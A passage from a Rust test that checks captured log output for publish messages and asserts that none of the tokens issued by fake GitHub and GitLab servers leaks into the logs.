    let logs = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
    assert!(logs.contains("published"), "the capture works: {logs}");
    assert!(logs.contains("publish failed"), "the capture works: {logs}");
    let mut tokens = gh.fake.issued_tokens();
    tokens.push(fake_gitlab::TOKEN.to_owned());
    // The installation's one token (shared by REST and git) and GitLab's.
    assert!(tokens.len() >= 2, "{tokens:?}");
    for token in tokens {
        assert!(!logs.contains(&token), "token in the logs:\n{logs}");
    }
}
